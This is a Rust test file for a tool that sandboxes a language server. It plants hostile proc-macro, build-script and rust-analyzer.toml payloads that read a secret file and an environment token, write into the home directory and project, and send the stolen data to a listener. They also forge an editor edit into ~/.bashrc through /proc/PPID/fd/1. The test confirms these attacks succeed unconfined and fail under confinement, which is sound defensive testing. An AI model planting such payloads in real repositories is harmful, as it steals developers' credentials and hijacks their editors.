//! Repositories whose macros, build script and configuration attack through the language server.
//!
//! The same server is run plainly first, as an editor without this tool runs it: there each attack gains.

use std::fs;
use std::io::Read as _;
use std::net::TcpListener;
use std::os::unix::fs::PermissionsExt as _;
use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex};

use serde_json::{Value, json};

use super::client::Client;
use super::support::tool::front_end;
use super::support::world::World;
use super::{confined, macros, manifest, worlds};

const SECRET: &str = "the-secret-in-a-file";
const TOKEN: &str = "the-secret-in-the-environment";

/// Tries everything, and returns the names of what worked.
const ATTACK: &str = r#"
    fn attack(who: &str) -> Vec<&'static str> {
        use std::io::Write;
        let mut gained = Vec::new();
        let secret = std::fs::read_to_string("HOME/secret").unwrap_or_default();
        if !secret.is_empty() {
            gained.push("read_a_secret");
        }
        let token = std::env::var("EDITORS_TOKEN").unwrap_or_default();
        if !token.is_empty() {
            gained.push("had_a_token");
        }
        if std::fs::write(format!("HOME/written-by-{who}"), &secret).is_ok() {
            gained.push("wrote_in_home");
        }
        if std::fs::write("PROJECT/src/main.rs.bak", "").is_ok() {
            gained.push("wrote_in_the_project");
        }
        if std::fs::read("PROJECT/.git/config").is_ok() {
            gained.push("read_version_control");
        }
        let address = "127.0.0.1:PORT".parse().unwrap();
        let patience = std::time::Duration::from_secs(2);
        if let Ok(mut stream) = std::net::TcpStream::connect_timeout(&address, patience)
            && stream.write_all(format!("{who} {secret} {token}").as_bytes()).is_ok()
        {
            gained.push("connected");
        }
        gained
    }
"#;

/// What the macro does beside: it speaks for the server, whose standard output it finds through its parent.
const SPEAKS: &str = r###"
    fn speak() {
        use std::io::Write;
        let status = std::fs::read_to_string("/proc/self/status").unwrap_or_default();
        let parent = status.lines().find_map(|line| line.strip_prefix("PPid:")).unwrap_or_default();
        let body = r##"{"jsonrpc":"2.0","id":"forged","method":"workspace/applyEdit","params":{"label":"forged","edit":{"changes":{"file://HOME/.bashrc":[{"range":{"start":{"line":0,"character":0},"end":{"line":0,"character":0}},"newText":"evil"}]}}}}"##;
        let message = format!("Content-Length: {}\r\n\r\n{body}", body.len());
        let output = std::fs::OpenOptions::new().write(true).open(format!("/proc/{}/fd/1", parent.trim()));
        let _refused = output.and_then(|mut output| output.write_all(message.as_bytes()));
    }
"###;

const MACRO: &str = r#"
    use proc_macro::TokenStream;

    static ONCE: std::sync::Once = std::sync::Once::new();

    #[proc_macro]
    pub fn make(_: TokenStream) -> TokenStream {
        ONCE.call_once(speak);
        let gained = attack("macro");
        let fields: String = gained.iter().map(|name| format!(", pub {name}: u32")).collect();
        format!("pub struct Made {{ pub the_macro_ran: u32 {fields} }}").parse().unwrap()
    }
"#;

const SCRIPT: &str = r#"
    fn main() {
        for name in attack("script") {
            println!("cargo::rustc-cfg=script_{name}");
        }
        println!("cargo::rustc-cfg=script_ran");
    }
"#;

const SOURCE: &str = r"macros::make!();

struct Script {
    #[cfg(script_ran)]
    the_script_ran: u32,
    #[cfg(script_read_a_secret)]
    read_a_secret: u32,
    #[cfg(script_had_a_token)]
    had_a_token: u32,
    #[cfg(script_wrote_in_home)]
    wrote_in_home: u32,
    #[cfg(script_wrote_in_the_project)]
    wrote_in_the_project: u32,
    #[cfg(script_read_version_control)]
    read_version_control: u32,
    #[cfg(script_connected)]
    connected: u32,
}

fn attacked(made: Made, script: Script) {
    EXPRESSION
}

fn main() {}
";

/// Everything that was tried.
const GAINS: &[&str] = &[
    "connected",
    "had_a_token",
    "read_a_secret",
    "read_version_control",
    "wrote_in_home",
    "wrote_in_the_project",
];

struct Scene<'a> {
    world: &'a World,
    project: PathBuf,
    heard: Arc<Mutex<String>>,
}

impl<'a> Scene<'a> {
    fn new(world: &'a World) -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").expect("a port");
        let port = listener.local_addr().expect("address").port().to_string();
        let heard = Arc::new(Mutex::new(String::new()));
        std::thread::spawn({
            let heard = Arc::clone(&heard);
            move || {
                for stream in listener.incoming() {
                    let mut text = String::new();
                    let _broken = stream.and_then(|mut stream| stream.read_to_string(&mut text));
                    heard.lock().expect("lock").push_str(&text);
                }
            }
        });
        let project = world.work().join("app");
        let fill = |text: &str| {
            text.replace("HOME", world.home.to_str().expect("UTF-8"))
                .replace("PROJECT", project.to_str().expect("UTF-8"))
                .replace("PORT", &port)
        };
        world.write(&world.home.join("secret"), SECRET);
        world.write(&project.join("Cargo.toml"), &manifest(""));
        world.write(&project.join("build.rs"), &fill(&[SCRIPT, ATTACK].concat()));
        world.write(&project.join("src/main.rs"), &SOURCE.replace("EXPRESSION", ""));
        macros(world, &project, &fill(&[MACRO, ATTACK, SPEAKS].concat()));
        // A program that the configuration names.
        let named = project.join("named.sh");
        let home = world.home.display();
        world.write(&named, &format!("#!/bin/sh\ncat {home}/secret > {home}/written-by-named\ncat\n"));
        fs::set_permissions(&named, fs::Permissions::from_mode(0o755)).expect("mode");
        world.write(
            &project.join("rust-analyzer.toml"),
            &format!(
                "[rustfmt]\noverrideCommand = [\"{0}\"]\n[runnables]\ncommand = \"{0}\"\nextraArgs = [\"--config\", \
                 \"build.rustc='{0}'\"]\n",
                named.display()
            ),
        );
        world.write(&project.join(".git/config"), "[core]\n");
        Self { world, project, heard }
    }

    /// What was gained in a session, in words: by macros, by the script, and by what the editor was told to do.
    fn session(&self, command: &mut std::process::Command) -> Gained {
        let mut client =
            Client::start(command.env("EDITORS_TOKEN", TOKEN), self.world, &self.project, json!({}));
        let fields = |client: &mut Client, of: &str| {
            let text = SOURCE.replace("EXPRESSION", &format!("{of}."));
            let mut all = client.completions(&text, &format!("    {of}."));
            all.retain(|name| !name.contains("as "));
            all.sort();
            all
        };
        let (by_macro, by_script) = (fields(&mut client, "made"), fields(&mut client, "script"));
        let document = json!({"uri": client.uri("src/main.rs")});
        let options = json!({"tabSize": 4, "insertSpaces": true});
        let _by_named =
            client.request("textDocument/formatting", json!({"textDocument": document, "options": options}));
        let runnables = client.request("experimental/runnables", json!({"textDocument": document}));
        let runnables = runnables["result"].as_array().cloned().unwrap_or_default();
        let asked_for_edit = client.asked.iter().any(|asked| asked.starts_with("workspace/applyEdit"));
        let said = client.said();
        assert_eq!(client.shut_down(), 0);
        let mut files = Vec::new();
        for who in ["macro", "script", "named"] {
            let path = self.world.home.join(format!("written-by-{who}"));
            if fs::remove_file(path).is_ok() {
                files.push(who);
            }
        }
        let in_project = fs::remove_file(self.project.join("src/main.rs.bak")).is_ok();
        let heard = std::mem::take(&mut *self.heard.lock().expect("lock"));
        Gained { by_macro, by_script, runnables, asked_for_edit, files, in_project, heard, said }
    }
}

#[derive(Debug)]
struct Gained {
    by_macro: Vec<String>,
    by_script: Vec<String>,
    runnables: Vec<Value>,
    asked_for_edit: bool,
    files: Vec<&'static str>,
    in_project: bool,
    heard: String,
    said: String,
}

fn plus(ran: &str, gains: &[&str]) -> Vec<String> {
    let mut all: Vec<String> = gains.iter().chain([&ran]).map(|name| (*name).to_owned()).collect();
    all.sort();
    all
}

#[test]
fn what_the_server_loads_and_runs_gains_nothing() {
    for (world, engine, server) in worlds("hostile") {
        let scene = Scene::new(&world);
        let project: &Path = &scene.project;

        let mut plainly = world.command(&server);
        plainly.env("CARGO_TARGET_DIR", world.home.join("plain-target"));
        let control = scene.session(&mut plainly);
        let what = format!("control: {control:?}");
        assert_eq!(control.by_macro, plus("the_macro_ran", GAINS), "{what}");
        assert_eq!(control.by_script, plus("the_script_ran", GAINS), "{what}");
        assert_eq!(control.files, ["macro", "script", "named"], "{what}");
        assert!(control.in_project && control.asked_for_edit, "{what}");
        for word in ["macro", "script", SECRET, TOKEN] {
            assert!(control.heard.contains(word), "{word}: {what}");
        }
        let evil = json!(project.join("named.sh"));
        assert!(control.runnables.iter().any(|one| one["args"]["overrideCargo"] == evil), "{what}");
        let configured = |one: &Value| one["args"]["cargoArgs"].to_string().contains("--config");
        assert!(control.runnables.iter().any(configured), "{what}");

        let mut inside = confined(&world, engine, project, &server);
        let gained = scene.session(&mut inside);
        let what = format!("{gained:?}");
        assert_eq!(gained.by_macro, ["the_macro_ran"], "{what}");
        assert_eq!(gained.by_script, ["the_script_ran"], "{what}");
        assert!(gained.files.is_empty() && !gained.in_project && !gained.asked_for_edit, "{what}");
        assert_eq!(gained.heard, "", "{what}");
        // The edit was said, and not passed on. Where root's jobs run as nobody, they cannot even say it.
        let said = gained.said.contains("`workspace/applyEdit` is not passed on");
        assert_eq!(said, world.user.uid != 0, "{what}");
        let tool = json!(front_end());
        assert!(gained.runnables.iter().all(|one| one["args"]["overrideCargo"] == tool), "{what}");
        assert!(!gained.runnables.iter().any(configured), "{what}");
        world.stop(engine, project);
    }
}
